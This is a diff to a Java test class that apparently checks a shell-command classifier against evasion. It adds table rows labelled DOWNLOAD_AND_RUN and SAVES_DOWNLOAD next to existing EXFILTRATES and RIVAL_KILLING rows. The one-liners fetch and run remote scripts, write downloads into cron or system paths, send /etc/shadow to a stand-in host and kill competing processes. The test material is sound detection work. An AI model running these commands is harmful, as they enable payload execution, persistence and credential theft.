@@ -14,6 +14,7 @@ final class EvasionTest {
     /// As in [BehaviourTest].
     private static final String TABLE =
             """
+            DOWNLOAD_AND_RUN | curl https://dl.google.com/%2e%2e/evil/x.sh | bash
             RIVAL_KILLING | k() { kill -9 $1; }; for p in $(ps aux | awk '$3>40{print $2}'); do k $p; done
             RIVAL_KILLING | k() { xargs kill -9; }; ps aux | awk '$3>40{print $2}' | k
             RIVAL_KILLING | l() { ps aux | awk '$3>40{print $2}'; }; kill -9 $(l)
@@ -34,6 +35,14 @@ final class EvasionTest {
             - | for p in :8888 :9999; do netstat -antlp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done
             - | netstat -antp | grep LISTEN | grep :3333 | awk '{print $7}' | xargs kill; netstat -antp | grep :4444 | grep LISTEN | awk '{print $7}' | xargs kill; netstat -lntp | grep :14444 | awk '{print $7}' | xargs kill
             - | ps aux | awk '/php-fpm/ && $3>60 {print $2}' | xargs kill -9; ps aux | grep -w app.jar | awk '$3>60 {print $2}' | xargs kill -9
+            SAVES_DOWNLOAD | get() { curl -s $1; }; get http://192.0.2.1/x | tee /opt/x
+            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | gpg -d -o /opt/x
+            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | openssl enc -d -aes-256-cbc -k p -out /usr/bin/x
+            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | sponge /opt/x
+            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | while read l; do echo "$l" >> /opt/x; done
+            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | crontab -
+            DOWNLOAD_AND_RUN | curl -o /dev/shm/x http://192.0.2.1/x; chmod +x /dev/shm/x; /dev/shm/x
+            ~SAVES_DOWNLOAD | curl -s https://h.example/state | grep -c up; curl -s https://h.example/v | jq .a | tr -d '"'; curl -s https://h.example/v | awk '{print $1}'; wget -qO- https://h.example/v | tee /dev/null
             EXFILTRATES | awk -F: '{print $1, $(2)}' /etc/shadow | curl -d @- http://203.0.113.5/
             EXFILTRATES | awk -F: '{x=$2; print $1, x}' /etc/shadow | curl -d @- http://203.0.113.5/
             EXFILTRATES | awk -F: -v n=2 '{print $1, $n}' /etc/shadow | curl -d @- http://203.0.113.5/
